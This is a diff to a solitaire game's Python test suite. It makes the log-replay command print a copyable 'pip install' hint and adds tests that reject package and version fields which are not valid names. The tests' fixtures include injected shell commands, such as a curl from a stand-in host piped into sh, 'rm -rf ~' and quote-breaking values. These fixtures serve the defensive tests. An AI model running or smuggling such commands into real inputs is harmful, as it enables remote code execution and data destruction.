@@ -22,6 +22,7 @@ from solitaire.core import log
 from solitaire.core.game import Game, parse_action
 from solitaire.core.playout import play_randomly
 from solitaire.core.registry import Catalog
+from solitaire.core.untrusted import cut
 from solitaire.frontends.cli.main import run
 
 CATALOG = Catalog(entry_points=False, blocked=["solver-hints", "sampling-hints"])  # quick hints
@@ -89,7 +90,7 @@ def assert_refusal_is_deserved(text: str | bytes, error: log.LogError) -> None:
     if not isinstance(data, dict):
         assert error.where == "the file", error
         return
-    if error.where in {log.LogError(key, "").where for key in data}:  # an unknown field
+    if error.where in {log.LogError(cut(key), "").where for key in data}:  # an unknown field
         return
     steps = re.findall(r"\.?([^.\[\]]+)|\[(\d+)\]", error.where)
     assert steps and steps[0][0] in FIELDS, error
@@ -326,17 +327,17 @@ def test_another_format_is_refused() -> None:
         (
             "variant",
             {"id": "yukon", "package": "solitaire-yukon", "version": "1.0"},
-            "variant 'yukon' is not installed: install solitaire-yukon 1.0",
+            "variant 'yukon' is not installed: pip install 'solitaire-yukon==1.0'",
         ),
         (
             "scoring",
             {"id": "cumulative", "package": "solitaire-vegas-plus", "version": "2.1"},
-            "scoring 'cumulative' is not installed: install solitaire-vegas-plus 2.1",
+            "scoring 'cumulative' is not installed: pip install 'solitaire-vegas-plus==2.1'",
         ),
         (
             "redeal",
             {"id": "golden:4", "package": "solitaire-golden", "version": None},
-            "redeal 'golden:4' is not installed: install solitaire-golden",
+            "redeal 'golden:4' is not installed: pip install 'solitaire-golden'",
         ),
         ("variant", {"id": "yukon", "package": None, "version": None}, "variant 'yukon' is not installed"),
     ],
@@ -456,9 +457,56 @@ def test_strings_that_look_like_code_are_only_text(tmp_path: Path) -> None:
 def test_a_changed_package_or_version_alone_still_replays() -> None:
     """Package and version only tell the reader what to install; they do not change the game."""
     data = real_log()
-    data["header"]["variant"] = {"id": "klondike", "package": "__import__('os')", "version": None}
-    game = replay_or_refuse(json.dumps(data))
-    assert game is not None and game.state == GAMES[0].state
+    for package, version in [("solitaire-other", None), ("Some.Other_Dist", "2.0rc1.post3.dev4+local.7")]:
+        data["header"]["variant"] = {"id": "klondike", "package": package, "version": version}
+        game = replay_or_refuse(json.dumps(data))
+        assert game is not None and game.state == GAMES[0].state
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("package", "solitaire-yukon-fix; curl evil.example | sh"),
+        ("package", "__import__('os')"),
+        ("package", "solitaire-yukon'"),
+        ("package", "-solitaire"),
+        ("package", ""),
+        ("package", "a" * 100 + " b"),
+        ("version", "1.0; rm -rf ~"),
+        ("version", "1.0' && sh '"),
+        ("version", "latest"),
+        ("version", " 1.0"),
+        ("version", ""),
+    ],
+)
+def test_a_package_or_version_that_is_not_a_name_is_refused_naming_the_field(field: str, value: str) -> None:
+    """The package and version are what the player is told to install: only a real name and
+    version number (PEP 508, PEP 440) is accepted, anything else refuses the log."""
+    for kind in ("variant", "scoring", "redeal"):
+        data = real_log()
+        data["header"][kind][field] = value
+        with pytest.raises(log.LogError) as caught:
+            log.loads(json.dumps(data))
+        assert caught.value.where == f"header.{kind}.{field}"
+        assert value[:30] in caught.value.problem
+
+
+def test_the_advice_to_install_is_a_command_to_copy(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SOLITAIRE_BLOCK_PLUGINS", "yukon")
+    data = real_log()
+    data["header"]["variant"] = {"id": "yukon", "package": "solitaire-yukon-fix; curl evil.example | sh"}
+    path = tmp_path / "evil.json"
+    path.write_text(json.dumps(data), encoding="utf-8")
+    assert run(["replay", str(path)]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith(f"{path}: header.variant.package: 'solitaire-yukon-fix; curl evil.example | sh'")
+    assert "pip" not in err and err.count("\n") == 1
+    data["header"]["variant"] = {"id": "yukon", "package": "Solitaire_Yukon.Fix", "version": "1.0.post1"}
+    path.write_text(json.dumps(data), encoding="utf-8")
+    assert run(["replay", str(path)]) == 2
+    assert capsys.readouterr().err.endswith(": pip install 'Solitaire_Yukon.Fix==1.0.post1'\n")
 
 
 # -- through the command line --------------------------------------------------------------------
@@ -525,7 +573,7 @@ def test_the_command_line_names_the_package_to_install(
     path.write_bytes(HOSTILE_FILES["yukon"])
     assert run(["replay", str(path)]) == 2
     assert capsys.readouterr().err == (
-        f"{path}: header.variant: variant 'yukon' is not installed: install solitaire-yukon 1.0\n"
+        f"{path}: header.variant: variant 'yukon' is not installed: pip install 'solitaire-yukon==1.0'\n"
     )
 
 
